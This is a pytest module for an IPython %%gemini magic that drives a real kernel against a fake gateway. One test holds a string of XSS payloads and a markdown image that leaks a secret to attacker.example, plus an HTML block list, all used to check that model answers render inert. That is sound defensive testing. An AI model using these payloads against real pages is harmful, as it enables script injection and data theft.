@@ -1,0 +1,665 @@
+"""%%gemini and %gemini in a real kernel against FakeGateway, asserting on iopub messages.
+
+One kernel serves the whole module (see conftest.py); every test clears the gateway's records
+first. Nothing here sleeps: interrupts wait for the first live update of the answer.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+import time
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+
+import pytest
+
+from conftest import KERNEL_KEY, Cell, KernelSession
+from ipygemini._render import ALLOWED_TAGS
+from ipygemini.display import PLACEHOLDER
+from ipygemini.testing import FakeGateway, answer_for, reasoning_for
+
+
+@pytest.fixture(autouse=True)
+def _fresh(magic_gateway: FakeGateway) -> Iterator[None]:
+    magic_gateway.clear()
+    yield
+
+
+def displays(outputs: list[dict[str, Any]]) -> list[dict[str, str]]:
+    return [o["data"] for o in outputs if o["output_type"] == "display_data"]
+
+
+def is_footer(data: dict[str, str]) -> bool:
+    return (
+        data.get("text/plain", "").startswith("— ")
+        and "text/html" in data
+        and ("font-size:0.85em" in data["text/html"])
+    )
+
+
+def answer_blocks(cell: Cell) -> list[dict[str, str]]:
+    """The final outputs that show answer text (no placeholders, thinking, images, footer)."""
+    return [
+        d
+        for d in displays(cell.final)
+        if d != PLACEHOLDER
+        and not is_footer(d)
+        and not d.get("text/plain", "").startswith("[Thinking")
+        and "image/png" not in d
+    ]
+
+
+def footer(cell: Cell) -> str:
+    feet = [d["text/plain"] for d in displays(cell.final) if is_footer(d)]
+    assert len(feet) == 1, displays(cell.final)
+    return feet[0]
+
+
+def without_footer(outputs: list[dict[str, Any]]) -> list[dict[str, str]]:
+    return [d for d in displays(outputs) if not is_footer(d)]
+
+
+def chat_requests(gw: FakeGateway) -> list[Any]:
+    return [r.body for r in gw.requests if r.path.endswith("/chat/completions")]
+
+
+def last_body(gw: FakeGateway) -> dict[str, Any]:
+    bodies = chat_requests(gw)
+    assert bodies, "no chat request reached the gateway"
+    body: dict[str, Any] = bodies[-1]
+    return body
+
+
+def ok(cell: Cell) -> Cell:
+    assert cell.status == "ok", (cell.reply, cell.stderr, cell.error)
+    return cell
+
+
+def one_line_error(cell: Cell) -> dict[str, Any]:
+    assert cell.status == "error"
+    error = cell.error
+    assert error is not None, cell.messages
+    assert len(error["traceback"]) == 1, error["traceback"]
+    assert "\n" not in error["traceback"][0]
+    return error
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, attrs))
+
+    handle_startendtag = handle_starttag
+
+
+def assert_inert(html: str) -> None:
+    """Nothing in `html` can run code or load a resource."""
+    parser = _Tags()
+    parser.feed(html)
+    parser.close()
+    for tag, attrs in parser.found:
+        assert tag not in ("img", "script", "svg", "iframe", "style", "object", "embed"), html
+        for name, value in attrs:
+            assert not name.startswith("on") and name not in ("src", "srcdoc", "srcset"), html
+            if name == "href":
+                assert re.match(r"(https?|mailto):", value or ""), html
+
+
+# --- streaming and the final outputs -------------------------------------------------------------
+
+PROMPT = "Explain streaming [fake:delay=0.005] [fake:words=150]"
+
+
+def test_answer_streams_live_and_ends_as_the_full_answer(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    cell = ok(kernel.run(f"%%gemini\n{PROMPT}"))
+    answer = answer_for(last_body(magic_gateway))
+    live = [m for m in cell.of_type("update_display_data") if m["content"]["data"] != PLACEHOLDER]
+    assert len(live) >= 3, "the answer did not stream"
+    blocks = answer_blocks(cell)
+    assert "\n\n".join(b["text/plain"] for b in blocks) == answer
+    assert all(b["text/html"].startswith("<") for b in blocks)
+    # nbval: what it records (display_data as first sent) is what the notebook saves
+    assert cell.recorded == cell.final
+    assert not cell.of_type("execute_result"), "the cell must return None"
+    assert "gemini-2.5-flash" in footer(cell) and "tokens" in footer(cell)
+
+
+def test_no_stream_shows_the_same_final_outputs(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    streamed = ok(kernel.run(f"%%gemini\n{PROMPT}"))
+    still = ok(kernel.run(f"%%gemini --no-stream\n{PROMPT}"))
+    assert [b.get("stream") for b in chat_requests(magic_gateway)] == [True, None]
+    assert not still.of_type("update_display_data")
+    assert without_footer(still.final) == without_footer(streamed.final)
+    assert without_footer(still.recorded) == without_footer(streamed.recorded)
+
+
+def test_updates_are_throttled(kernel: KernelSession) -> None:
+    cell = ok(kernel.run("%%gemini\nslow one [fake:delay=0.002] [fake:words=300]"))
+    updates = cell.of_type("update_display_data")
+    stamps = [m["header"]["date"] for m in cell.of_type("display_data", "update_display_data")]
+    seconds = (stamps[-1] - stamps[0]).total_seconds()
+    blocks = len(answer_blocks(cell))
+    # at most ~20 live renders a second, plus one revert per finished block
+    assert len(updates) <= 20 * seconds + 2 + blocks, (len(updates), seconds, blocks)
+
+
+def test_thinking_streams_then_folds(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    cell = ok(kernel.run("%%gemini --thinking\nThink first [fake:delay=0.01]"))
+    body = last_body(magic_gateway)
+    assert body["extra_body"]["google"]["thinking_config"]["include_thoughts"] is True
+    reasoning = reasoning_for(body)
+    assert reasoning
+    live = [m["content"]["data"].get("text/html", "") for m in cell.of_type("update_display_data")]
+    assert any(html.startswith("<details open") for html in live)
+    outputs = [d for d in displays(cell.final) if d != PLACEHOLDER]
+    thinking = outputs[0]
+    assert thinking["text/html"].startswith("<details style")  # folded
+    assert reasoning in thinking["text/plain"]
+    assert "\n\n".join(b["text/plain"] for b in answer_blocks(cell)) == answer_for(body)
+
+
+def test_thinking_budget_levels(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    ok(kernel.run("%%gemini --thinking low\nhi"))
+    config = last_body(magic_gateway)["extra_body"]["google"]["thinking_config"]
+    assert config["thinking_budget"] == 1024
+    ok(kernel.run("%%gemini --thinking 300\nhi"))
+    assert last_body(magic_gateway)["extra_body"]["google"]["thinking_config"] == {
+        "thinking_budget": 300,
+        "include_thoughts": True,
+    }
+    cell = kernel.run("%%gemini --thinking lots\nhi")
+    assert cell.status == "error" and "--thinking" in cell.stderr
+
+
+def test_generated_image_is_shown_from_its_bytes(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    cell = ok(
+        kernel.run(
+            "%%gemini -m gemini-2.5-flash-image --aspect-ratio 16:9 --image-size 2k\na red fox"
+        )
+    )
+    body = last_body(magic_gateway)
+    assert body["extra_body"]["google"]["image_config"] == {
+        "aspect_ratio": "16:9",
+        "image_size": "2K",
+    }
+    images = [d for d in displays(cell.final) if "image/png" in d]
+    assert len(images) == 1
+    png = base64.b64decode(images[0]["image/png"])
+    assert png.startswith(b"\x89PNG")
+    assert int.from_bytes(png[16:20], "big") == 85  # 16:9 with a 48 px short side
+    for data in displays(cell.recorded):
+        assert "<img" not in data.get("text/html", "")
+    assert cell.recorded == cell.final
+    check = ok(kernel.run("print(len(_gemini.images), _gemini.images[0].mime_type)"))
+    assert check.stdout == "1 image/png\n"
+
+
+def test_bad_aspect_ratio_is_a_usage_error(kernel: KernelSession) -> None:
+    cell = kernel.run("%%gemini -m gemini-2.5-flash-image --aspect-ratio wide\nx")
+    assert cell.status == "error" and "--aspect-ratio" in cell.stderr
+
+
+# --- untrusted answers ----------------------------------------------------------------------------
+
+HOSTILE = (
+    "<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3)) "
+    "![leak](https://attacker.example/?q=secret) <svg onload=alert(4)> <iframe srcdoc=x>"
+)
+
+
+@pytest.mark.parametrize("stream", [True, False])
+def test_hostile_answer_reaches_no_output_in_executable_form(
+    kernel: KernelSession, stream: bool
+) -> None:
+    # The fake echoes the prompt into its answer, so the payload comes back as model text.
+    flag = "" if stream else " --no-stream"
+    cell = ok(kernel.run(f"%%gemini{flag}\n{HOSTILE} [fake:delay=0.002]"))
+    assert "alert(1)" in json.dumps(displays(cell.final))  # the payload did come back
+    every = [m["content"]["data"] for m in cell.of_type("display_data", "update_display_data")]
+    assert len(every) > 3
+    for data in every:
+        assert_inert(data.get("text/html", ""))
+    check = ok(kernel.run("print(_gemini.images[0].url if _gemini.images else None)"))
+    assert check.stdout.strip() in ("None", "https://attacker.example/?q=secret")
+
+
+def test_allowed_tags_only(kernel: KernelSession) -> None:
+    cell = ok(kernel.run("%%gemini\nlist and code please [fake:delay=0.002]"))
+    for data in displays(cell.final):
+        for tag in re.findall(r"<([a-z0-9]+)", data.get("text/html", "")):
+            assert tag in ALLOWED_TAGS | {"div", "details", "summary"}, tag
+
+
+# --- prompt interpolation ----------------------------------------------------------------------------
+
+
+def last_user_text(gw: FakeGateway) -> str:
+    content = last_body(gw)["messages"][-1]["content"]
+    return content if isinstance(content, str) else content[0]["text"]
+
+
+def test_interpolation_once_with_literal_braces(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    first = ok(kernel.run("x = 42\ny = '{x}'\n40 + 2"))
+    n = first.reply["execution_count"]
+    ok(
+        kernel.run(
+            "%%gemini\nx={x} y={y} {{x}} {{{x}}} In={In[" + str(n) + "]} Out={Out[" + str(n) + "]} "
+            'code: def f(): {return 1} json: {"a": 1}'
+        )
+    )
+    assert last_user_text(magic_gateway) == (
+        "x=42 y={x} {x} {42} In=x = 42\ny = '{x}'\n40 + 2 Out=42 "
+        'code: def f(): {return 1} json: {"a": 1}'
+    )
+
+
+def test_attribute_access(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    ok(kernel.run("class P: name = 'Ada'\np = P()"))
+    ok(kernel.run("%%gemini\nHello {p.name}"))
+    assert last_user_text(magic_gateway) == "Hello Ada"
+
+
+@pytest.mark.parametrize(
+    ("prompt", "message"),
+    [
+        ("{dff}", "no variable 'dff' in the notebook"),
+        ("{Out[9999]}", "cell 9999 has not run or returned nothing"),
+        ("{In[9999]}", "there is no cell 9999 yet"),
+        ("{p.nope}", "has no attribute 'nope'"),
+    ],
+)
+def test_unknown_names_are_one_clear_line(
+    kernel: KernelSession, magic_gateway: FakeGateway, prompt: str, message: str
+) -> None:
+    cell = kernel.run(f"%%gemini\nAbout {prompt}")
+    error = one_line_error(cell)
+    assert message in error["evalue"]
+    assert not chat_requests(magic_gateway)
+
+
+# --- options ----------------------------------------------------------------------------------------
+
+
+def test_sampling_options_reach_the_request(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    ok(
+        kernel.run(
+            "%%gemini -m gemini-2.5-pro -t 0.3 --top-p 0.9 --max-tokens 5 --stop '###' "
+            "-s 'Be terse.'\nhello there"
+        )
+    )
+    body = last_body(magic_gateway)
+    assert body["model"] == "gemini-2.5-pro"
+    assert body["temperature"] == 0.3 and body["top_p"] == 0.9
+    assert body["max_tokens"] == 5 and body["stop"] == "###"
+    assert body["messages"][0] == {"role": "system", "content": "Be terse."}
+    check = ok(kernel.run("print(_gemini.finish_reason, len(_gemini.text.split()))"))
+    assert check.stdout == "length 5\n"
+
+
+def test_several_stops(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    cell = ok(kernel.run("%%gemini --stop stream --stop 'You asked'\nhi"))
+    body = last_body(magic_gateway)
+    assert body["stop"] == ["stream", "You asked"]
+    shown = "\n\n".join(b["text/plain"] for b in answer_blocks(cell))
+    assert shown == answer_for(body).strip()
+    assert "You asked" not in shown
+
+
+def test_n_answers_are_all_shown(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    cell = ok(kernel.run("%%gemini -n 2\nTwo please"))
+    assert last_body(magic_gateway)["n"] == 2
+    plain = [d["text/plain"] for d in displays(cell.final)]
+    assert "— Answer 2 of 2 —" in plain
+    assert any(p.endswith("(choice 2)") for p in plain)
+    assert "2 answers" in footer(cell)
+    check = ok(kernel.run("print(len(_gemini.choices))"))
+    assert check.stdout == "2\n"
+
+
+def test_output_name_and_gemini_variable(kernel: KernelSession) -> None:
+    cell = ok(kernel.run("%%gemini -o answer\nKeep me"))
+    assert not cell.of_type("execute_result")
+    check = ok(kernel.run("print(answer is _gemini, type(answer).__name__, answer.status)"))
+    assert check.stdout == "True Reply complete\n"
+
+
+def test_bad_output_name(kernel: KernelSession) -> None:
+    cell = kernel.run("%%gemini -o 2bad\nx")
+    assert cell.status == "error" and "-o/--output" in cell.stderr
+
+
+def test_chat_sends_the_history_and_cells_are_independent_without_it(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    ok(kernel.run("%gemini reset"))
+    ok(kernel.run("%%gemini -c trip -s 'You plan trips.'\nFirst question"))
+    first_answer = answer_for(last_body(magic_gateway))
+    ok(kernel.run("%%gemini -c trip\nSecond question"))
+    messages = last_body(magic_gateway)["messages"]
+    assert messages == [
+        {"role": "system", "content": "You plan trips."},
+        {"role": "user", "content": "First question"},
+        {"role": "assistant", "content": first_answer},
+        {"role": "user", "content": "Second question"},
+    ]
+    ok(kernel.run("%%gemini\nStandalone"))
+    assert last_body(magic_gateway)["messages"] == [{"role": "user", "content": "Standalone"}]
+    history = ok(kernel.run("%gemini history trip"))
+    assert "Conversation 'trip': 2 turn(s)" in history.stdout
+    assert "user: Second question" in history.stdout
+    ok(kernel.run("%gemini reset trip"))
+    ok(kernel.run("%%gemini -c trip\nAfter reset"))
+    assert [m["role"] for m in last_body(magic_gateway)["messages"]] == ["system", "user"]
+    missing = kernel.run("%gemini history nosuch")
+    assert missing.status == "error" and "no conversation named 'nosuch'" in missing.stderr
+
+
+def test_json_mode_returns_the_parsed_value(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    cell = ok(kernel.run("%%gemini --json\nGive JSON"))
+    assert last_body(magic_gateway)["response_format"] == {"type": "json_object"}
+    results = cell.of_type("execute_result")
+    assert len(results) == 1
+    assert results[0]["content"]["data"]["text/plain"] == (
+        "{'answer': 'offline', 'prompt': 'Give JSON', 'words': 2}"
+    )
+    # shown once: only the live view (now empty placeholders) and the footer besides the result
+    assert [d for d in displays(cell.final) if d != PLACEHOLDER and not is_footer(d)] == []
+
+
+def test_format_code_puts_the_code_in_a_new_cell(kernel: KernelSession) -> None:
+    cell = ok(kernel.run("%%gemini -f code\nwrite code for fibonacci"))
+    payloads = [p for p in cell.payloads if p.get("source") == "set_next_input"]
+    assert len(payloads) == 1
+    assert payloads[0]["text"].startswith("def fibonacci(n: int) -> list[int]:")
+    assert payloads[0]["text"].rstrip().endswith("print(fibonacci(10))")
+    assert payloads[0]["replace"] is False
+
+
+def test_format_text_and_json(kernel: KernelSession) -> None:
+    text = ok(kernel.run("%%gemini -f text\nplain please"))
+    assert all("text/html" not in d for d in answer_blocks(text))
+    shown = ok(kernel.run("%%gemini -f json --no-stream\nplain please"))
+    blocks = answer_blocks(shown)
+    assert len(blocks) == 1 and blocks[0]["text/html"].startswith(
+        '<pre><code class="language-json">'
+    )
+
+
+def test_attach_a_variable(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    ok(
+        kernel.run(
+            "import base64\npng = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
+            "AAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==')"
+        )
+    )
+    ok(kernel.run("%%gemini -a png\nWhat is in this image?"))
+    content = last_body(magic_gateway)["messages"][-1]["content"]
+    assert content[0] == {"type": "text", "text": "What is in this image?"}
+    assert content[1]["type"] == "image_url"
+    assert content[1]["image_url"]["url"].startswith("data:image/png;base64,")
+    missing = kernel.run("%%gemini -a nope\nx")
+    assert "no variable 'nope'" in one_line_error(missing)["evalue"]
+
+
+def test_help_sends_nothing(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    cell = ok(kernel.run("%%gemini --help\nignored"))
+    for option in ("--temperature", "--top-p", "--max-tokens", "--stop", "--json", "--thinking"):
+        assert option in cell.stdout
+    for option in ("--no-stream", "--output", "--chat", "--attach", "--format", "--aspect-ratio"):
+        assert option in cell.stdout
+    assert "--image-size" in cell.stdout
+    assert not chat_requests(magic_gateway)
+
+
+@pytest.mark.parametrize(
+    ("line", "named"),
+    [
+        ("--temperature abc", "-t/--temperature"),
+        ("-t 3", "-t/--temperature"),
+        ("--top-p 2", "--top-p"),
+        ("--max-tokens 0", "--max-tokens"),
+        ("-n 0", "-n"),
+        ("--stop a --stop b --stop c --stop d --stop e", "--stop"),
+        ("--bogus", "--bogus"),
+        ("-f html", "-f/--format"),
+        ("--model ''", "-m/--model"),
+        ("'unclosed", "cannot read the options"),
+    ],
+)
+def test_bad_options_are_usage_errors_naming_the_option(
+    kernel: KernelSession, magic_gateway: FakeGateway, line: str, named: str
+) -> None:
+    cell = kernel.run(f"%%gemini {line}\nhello")
+    assert cell.status == "error"
+    assert cell.stderr.startswith("UsageError:") and named in cell.stderr, cell.stderr
+    assert cell.stderr.count("\n") == 1
+    assert not chat_requests(magic_gateway)
+
+
+def test_empty_prompt(kernel: KernelSession) -> None:
+    cell = kernel.run("%%gemini\n   \n")
+    assert cell.status == "error" and "the cell is empty" in cell.stderr
+
+
+# --- errors ---------------------------------------------------------------------------------------------
+
+
+def test_api_error_fails_the_cell_with_one_line(kernel: KernelSession) -> None:
+    cell = kernel.run("%%gemini\nhi [fake:status code=400]")
+    error = one_line_error(cell)
+    assert error["ename"] == "BadRequestError"
+    assert "HTTP 400" in error["evalue"]
+    assert not displays(cell.final)
+
+
+def test_server_error_after_retries(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    ok(kernel.run("%gemini config max_retries=0"))
+    try:
+        cell = kernel.run("%%gemini\nhi [fake:status code=500]")
+    finally:
+        ok(kernel.run("%gemini config max_retries=2"))
+    assert one_line_error(cell)["ename"] == "ServerError"
+    assert len(chat_requests(magic_gateway)) == 1
+
+
+@pytest.mark.parametrize("fault", ["disconnect after=3", "error_event after=4"])
+def test_mid_stream_failure_keeps_what_arrived(kernel: KernelSession, fault: str) -> None:
+    cell = kernel.run(f"%%gemini\nhi [fake:{fault}] [fake:words=100]")
+    error = one_line_error(cell)
+    assert error["ename"] == "StreamError"
+    assert "failed" in footer(cell)
+    shown = "".join(b["text/plain"] for b in answer_blocks(cell))
+    check = ok(kernel.run("print(_gemini.status); print(_gemini.text)"))
+    status, _, text = check.stdout.partition("\n")
+    assert status == "failed"
+    assert shown and text.startswith(shown[:20])
+    assert cell.recorded[:-1] == cell.final[:-1]  # the error is last in both
+
+
+def test_truncated_stream_is_marked(kernel: KernelSession) -> None:
+    cell = ok(kernel.run("%%gemini\nhi [fake:no_finish]"))
+    assert footer(cell).endswith("truncated")
+
+
+def test_parameter_errors_from_the_client_are_one_line(kernel: KernelSession) -> None:
+    cell = kernel.run("%%gemini --max-tokens -3\nhi")
+    assert cell.status == "error" and "--max-tokens" in cell.stderr
+    assert cell.stderr.count("\n") == 1
+
+
+def test_missing_key_mentions_offline(kernel: KernelSession) -> None:
+    setup = "import os\n_saved = dict(os.environ)\nos.environ.pop('GEMINI_API_KEY')\n"
+    setup += "os.environ['GEMINI_BASE_URL'] = 'https://gateway.example/v1'"
+    ok(kernel.run(setup))
+    try:
+        cell = kernel.run("%%gemini\nhi")
+    finally:
+        ok(kernel.run("os.environ.clear(); os.environ.update(_saved)"))
+    error = one_line_error(cell)
+    assert error["ename"] == "MissingKeyError"
+    assert "%gemini offline" in error["evalue"] and "%gemini login" in error["evalue"]
+
+
+# --- interrupts -----------------------------------------------------------------------------------------
+
+
+def test_interrupt_keeps_the_partial_answer_and_the_next_cell_works(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    interrupted_at: list[float] = []
+
+    def interrupt_once_streaming(msg: dict[str, Any], cell: Cell) -> None:
+        if interrupted_at or msg["msg_type"] != "update_display_data":
+            return
+        if msg["content"]["data"] != PLACEHOLDER:
+            interrupted_at.append(time.monotonic())
+            kernel.km.interrupt_kernel()
+
+    cell = kernel.run(
+        "%%gemini -o partial\nA long one [fake:slow] [fake:words=2000]",
+        on_message=interrupt_once_streaming,
+    )
+    finished = time.monotonic()
+    assert interrupted_at, "the answer never streamed"
+    assert finished - interrupted_at[0] < 1.0  # stopped, shown, and idle again
+    assert cell.status == "error"
+    assert cell.error is not None and cell.error["ename"] == "KeyboardInterrupt"
+    assert "interrupted" in footer(cell)
+    shown = [b["text/plain"] for b in answer_blocks(cell)]
+    assert shown and shown[0], "the partial answer is not shown"
+    check = ok(kernel.run("print(_gemini.text.startswith(" + repr(shown[0]) + "))"))
+    assert check.stdout == "True\n"
+    assert magic_gateway.wait_for_disconnect(5), "the connection was not closed"
+    assert cell.recorded[:-1] == cell.final[:-1]
+    check = ok(kernel.run("print(_gemini.status, partial is _gemini, len(_gemini.text) > 0)"))
+    assert check.stdout == "interrupted True True\n"
+    after = ok(kernel.run("%%gemini\nStill working?"))
+    assert answer_blocks(after)
+
+
+# --- line commands ----------------------------------------------------------------------------------------
+
+
+def test_models_table(kernel: KernelSession) -> None:
+    cell = ok(kernel.run("%gemini models"))
+    (table,) = displays(cell.final)
+    assert "gemini-2.5-pro" in table["text/plain"]
+    assert "<table>" in table["text/html"] and "<code>gemini-2.5-flash</code>" in table["text/html"]
+
+
+def test_config_shows_masked_key_and_sets_values(
+    kernel: KernelSession, magic_gateway: FakeGateway
+) -> None:
+    cell = ok(kernel.run("%gemini config"))
+    assert "api_key            = …leak  (GEMINI_API_KEY)" in cell.stdout
+    assert magic_gateway.base_url in cell.stdout
+    ok(kernel.run("%gemini config model=gemini-2.5-pro"))
+    ok(kernel.run("%%gemini\nwhich model"))
+    assert last_body(magic_gateway)["model"] == "gemini-2.5-pro"
+    ok(kernel.run('%config Gemini.model = "gemini-2.5-flash-lite"'))
+    ok(kernel.run("%%gemini\nwhich model"))
+    assert last_body(magic_gateway)["model"] == "gemini-2.5-flash-lite"
+    ok(kernel.run("%gemini config model=none"))
+    ok(kernel.run("%%gemini\nwhich model"))
+    assert last_body(magic_gateway)["model"] == "gemini-2.5-flash"
+    for bad, words in [
+        ("colour=red", "unknown setting 'colour'"),
+        ("timeout=-1", "timeout must be > 0"),
+        ("format=html", "format"),
+        ("api_key=abc", "not a setting"),
+        ("model", "write KEY=VALUE"),
+    ]:
+        err = kernel.run(f"%gemini config {bad}")
+        assert err.status == "error" and words in err.stderr, (bad, err.stderr)
+
+
+def test_stream_setting_off(kernel: KernelSession) -> None:
+    ok(kernel.run("%config Gemini.stream = False"))
+    try:
+        cell = ok(kernel.run("%%gemini\nno live view [fake:delay=0.01]"))
+    finally:
+        ok(kernel.run("%config Gemini.stream = True"))
+    assert not cell.of_type("update_display_data")
+
+
+def test_login_keeps_the_key_in_memory(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    prompts: list[dict[str, Any]] = []
+
+    def answer(request: dict[str, Any]) -> str:
+        prompts.append(request["content"])
+        return KERNEL_KEY
+
+    ok(kernel.run("import os\n_saved_key = os.environ.pop('GEMINI_API_KEY')"))
+    try:
+        cell = ok(kernel.run("%gemini login", stdin=answer))
+        assert prompts and prompts[0]["password"] is True
+        assert "…leak" in cell.stdout and "memory" in cell.stdout
+        config = ok(kernel.run("%gemini config"))
+        assert "(%gemini login (memory))" in config.stdout
+        ok(kernel.run("%%gemini\nlogged in"))
+        assert magic_gateway.requests[-1].authorized
+    finally:
+        ok(kernel.run("os.environ['GEMINI_API_KEY'] = _saved_key"))
+    refused = kernel.run("%gemini login sk-typed-into-the-cell")
+    assert refused.status == "error" and "takes no arguments" in refused.stderr
+
+
+def test_help_and_unknown_command(kernel: KernelSession) -> None:
+    cell = ok(kernel.run("%gemini help"))
+    for command in ("models", "config", "login", "reset", "history", "offline"):
+        assert f"%gemini {command}" in cell.stdout
+    bad = kernel.run("%gemini what is the answer")
+    assert bad.status == "error" and "%%gemini (two percent signs)" in bad.stderr
+
+
+def test_offline_mode(kernel: KernelSession, magic_gateway: FakeGateway) -> None:
+    cell = ok(kernel.run("%gemini offline"))
+    assert "OFFLINE" in cell.stdout
+    try:
+        answer = ok(kernel.run("%%gemini\nOffline?"))
+        assert footer(answer).endswith("offline")
+        assert not chat_requests(magic_gateway)  # the built-in gateway answered
+        config = ok(kernel.run("%gemini config"))
+        assert "(offline gateway)" in config.stdout
+    finally:
+        ok(kernel.run("%gemini offline off"))
+    ok(kernel.run("%%gemini\nOnline again"))
+    assert chat_requests(magic_gateway)
+
+
+def test_unload_and_reload(kernel: KernelSession) -> None:
+    ok(kernel.run("%unload_ext ipygemini"))
+    gone = kernel.run("%%gemini\nhi")
+    assert gone.status == "error"
+    ok(kernel.run("%load_ext ipygemini"))
+    ok(kernel.run("%%gemini\nhi again"))
+
+
+# --- the key never shows ------------------------------------------------------------------------------------
+
+
+def test_key_appears_in_no_message(kernel: KernelSession) -> None:
+    ok(kernel.run("print(repr(_gemini)); print(get_ipython().find_magic('gemini'))"))
+    ok(kernel.run("%config Gemini"))
+    assert len(kernel.all_messages) > 100  # every test above ran in this kernel
+    dump = json.dumps(kernel.all_messages, default=str)
+    assert KERNEL_KEY not in dump
+    assert KERNEL_KEY[:-4] not in dump
